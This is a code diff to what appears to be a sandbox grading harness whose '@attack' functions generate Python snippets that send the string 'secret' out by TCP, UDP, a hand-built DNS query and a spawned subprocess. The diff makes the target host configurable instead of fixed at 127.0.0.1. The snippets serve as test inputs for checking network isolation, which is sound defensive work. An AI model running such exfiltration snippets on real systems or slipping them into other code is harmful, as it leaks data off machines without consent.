@@ -8,14 +8,14 @@ from grading.attacks.world import World
 
 @attack("calls out by TCP", traced)
 def _tcp(w: World) -> str:
-    return f"import socket\nsocket.create_connection(('127.0.0.1', {w.tcp}), 2).send(b'secret')"
+    return f"import socket\nsocket.create_connection(({w.host!r}, {w.tcp}), 2).send(b'secret')"
 
 
 @attack("calls out by UDP", traced)
 def _udp(w: World) -> str:
     return f"""
 import socket
-socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'secret', ('127.0.0.1', {w.udp}))
+socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'secret', ({w.host!r}, {w.udp}))
 """
 
 
@@ -24,7 +24,7 @@ def _dns(w: World) -> str:
     return f"""
 import socket, struct
 asked = struct.pack('>6H', 7, 256, 1, 0, 0, 0) + b'\\x06secret\\x07example\\x00\\x00\\x01\\x00\\x01'
-socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(asked, ('127.0.0.1', {w.udp}))
+socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(asked, ({w.host!r}, {w.udp}))
 """
 
 
@@ -42,7 +42,7 @@ def _abstract(w: World) -> str:
 def _program(w: World) -> str:
     return f"""
 import subprocess, sys
-code = "import socket; socket.create_connection(('127.0.0.1', {w.tcp}), 2)"
+code = "import socket; socket.create_connection(({w.host!r}, {w.tcp}), 2)"
 subprocess.run([sys.executable, '-c', code], timeout=10)
 """
 
